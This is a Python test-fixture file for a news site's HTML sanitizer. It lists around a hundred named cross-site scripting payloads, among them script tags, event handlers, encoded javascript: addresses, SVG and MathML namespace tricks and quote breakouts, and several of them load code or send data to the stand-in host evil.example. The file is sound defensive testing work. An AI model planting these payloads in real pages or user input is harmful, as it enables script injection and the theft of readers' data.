"""
Hostile HTML: what an article's text, headline or summary could be made to hold, and must never
bring to a reader as markup that runs. ``tests/test_sanitizer.py`` puts each entry through saving,
the public page, the feeds, the previews and ``with_photo_credits``.

Each entry is ``(name, html)``; the names are the test ids. ``OWN_IMAGE`` stands for the address of
a photo of our own media library: the tests put a real photo's address in its place, so that the
entries using it also go through the rewriting of our photos into ``<picture>`` with a credit.
"""

OWN_IMAGE = "/media/photos/own-image.jpg"

HOSTILE_HTML = [
    # --- <script>, however it is spelled -----------------------------------------------------------
    ("script", "<script>alert(1)</script>"),
    ("script-upper-case", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-nested", "<script><script>alert(1)</script></script>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<p>Text<script>alert(1)"),
    ("script-slash-attribute", '<script/xss src="https://evil.example/x.js"></script>'),
    ("script-inside-paragraph", "<p>Safe <script>alert(1)</script>text</p>"),
    ("script-null-byte", "<scr\x00ipt>alert(1)</script>"),
    ("script-prefixed-namespace", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
    # --- event handlers ----------------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("own-image-onerror", f'<img src="{OWN_IMAGE}" alt="A photo" onerror="alert(1)">'),
    ("own-figure-onload", f'<figure onload="alert(1)"><img src="{OWN_IMAGE}" onload=alert(1)></figure>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("paragraph-onclick", '<p onclick="alert(1)">Click</p>'),
    ("upper-case-handler", "<P ONCLICK=alert(1)>Click</P>"),
    ("slash-separated-handler", "<p/onclick=alert(1)>Click</p>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("entity-encoded-handler-name", "<p o&#110;click=alert(1) &#111;nmouseover=alert(1)>Text</p>"),
    ("link-onmouseover", '<a href="/politics/" onmouseover="alert(1)">Link</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("body-onload", "<body onload=alert(1)>Text</body>"),
    ("frameset-onload", "<frameset onload=alert(1)>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>Text</marquee>"),
    ("backtick-quoted-handler", "<img src=`x` onerror=alert(1)>"),
    # --- javascript: addresses ---------------------------------------------------------------------
    ("javascript-href", '<a href="javascript:alert(1)">Link</a>'),
    ("javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">Link</a>'),
    ("javascript-unquoted", "<a href=javascript:alert(1)>Link</a>"),
    ("javascript-decimal-entity", '<a href="&#106;avascript:alert(1)">Link</a>'),
    ("javascript-hex-entity", '<a href="&#x6A;avascript:alert(1)">Link</a>'),
    (
        "javascript-entities-without-semicolons",
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">Link</a>',
    ),
    ("javascript-zero-padded-entity", '<a href="&#0000106avascript:alert(1)">Link</a>'),
    ("javascript-tab-inside", '<a href="java\tscript:alert(1)">Link</a>'),
    ("javascript-newline-inside", '<a href="java\nscript:alert(1)">Link</a>'),
    ("javascript-encoded-tab", '<a href="java&#x09;script:alert(1)">Link</a>'),
    ("javascript-named-newline", '<a href="javas&NewLine;cript&colon;alert(1)">Link</a>'),
    ("javascript-leading-spaces", '<a href="   javascript:alert(1)">Link</a>'),
    ("javascript-leading-control", '<a href="&#1;&#x20;javascript:alert(1)">Link</a>'),
    ("javascript-colon-entity", '<a href="javascript&colon;alert(1)">Link</a>'),
    ("javascript-null-inside", '<a href="java\x00script:alert(1)">Link</a>'),
    ("javascript-img-src", '<img src="javascript:alert(1)">'),
    ("javascript-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("javascript-srcset", f'<img src="{OWN_IMAGE}" srcset="javascript:alert(1) 1x, {OWN_IMAGE} 2x">'),
    ("javascript-isindex", "<isindex action=javascript:alert(1) type=image>"),
    # --- data: and vbscript: addresses -------------------------------------------------------------
    ("data-href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Link</a>'),
    ("data-href-spaced-mixed-case", '<a href=" DaTa:text/html,<script>alert(1)</script>">Link</a>'),
    ("data-img-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">Link</a>'),
    ("vbscript-img", '<img src="VBScript:msgbox(1)">'),
    # --- comments, CDATA, processing instructions -------------------------------------------------
    ("comment-abrupt-close", "<!--><script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- x --!><script>alert(1)</script>"),
    ("comment-bang-close-img", "<!-- --!><img src=x onerror=alert(1)>"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-unclosed", "<p>Text</p><!-- <script>alert(1)</script>"),
    ("comment-in-attribute", '<p title="<!--">Text</p><script>alert(1)</script>-->'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-in-svg", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    # --- SVG and MathML namespace tricks -----------------------------------------------------------
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-animate-href",
        '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    ),
    (
        "svg-foreign-object",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    ),
    (
        "svg-iframe-title",
        '<svg><iframe><a title="</iframe><img src=x onerror=alert(1)>">x</a></iframe></svg>',
    ),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    ),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    # --- style ---------------------------------------------------------------------------------------
    ("style-attribute-url", '<p style="background:url(javascript:alert(1))">Text</p>'),
    ("style-attribute-expression", '<p style="width:expression(alert(1))">Text</p>'),
    ("style-attribute-on-own-image", f'<img src="{OWN_IMAGE}" style="position:fixed;inset:0">'),
    ("style-element", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    # --- frames, plugins, forms, documents -------------------------------------------------------------
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit value=Go></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">Go</button></form>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'),
    ("template", "<template><script>alert(1)</script></template>"),
    (
        "template-shadow-root",
        '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
    ),
    # --- images from elsewhere, links that leave, broken quotes --------------------------------------
    ("img-other-host", '<img src="https://evil.example/tracker.gif">'),
    ("img-other-host-media-path", '<img src="https://evil.example/media/photos/x.jpg">'),
    ("img-protocol-relative", '<img src="//evil.example/media/photos/x.jpg">'),
    ("img-media-traversal", '<img src="/media/../admin/logout/">'),
    ("img-media-encoded-traversal", '<img src="/media/%2e%2e/admin/logout/">'),
    ("link-protocol-relative", '<a href="//evil.example/">Link</a>'),
    ("link-backslash-host", '<a href="/\\evil.example/">Link</a>'),
    ("link-target-blank", '<a href="https://evil.example/" target="_blank" rel="opener">Link</a>'),
    ("link-ping", '<a href="/politics/" ping="https://evil.example/track">Link</a>'),
    ("attribute-quote-break", '<a href="/x" title=\'" onclick="alert(1)\'>Link</a>'),
    ("alt-quote-break", f'<img src="{OWN_IMAGE}" alt=\'"><script>alert(1)</script>\'>'),
    ("dangling-markup", "<img src='https://evil.example/?<p>secret</p>"),
    (
        "figcaption-breakout",
        f'<figure><img src="{OWN_IMAGE}" alt="x"><figcaption><a title="</figcaption></figure>'
        '<script>alert(1)</script>">Caption</a></figcaption></figure>',
    ),
    (
        "figure-in-title",
        f'<a href="/x" title="<figure><img src={OWN_IMAGE}><figcaption><script>alert(1)</script>'
        '</figcaption></figure>">Link</a>',
    ),
    (
        "figcaption-handler",
        f'<figure><img src="{OWN_IMAGE}" alt="x"><figcaption onclick="alert(1)">'
        "<img src=x onerror=alert(1)>Caption</figcaption></figure>",
    ),
]
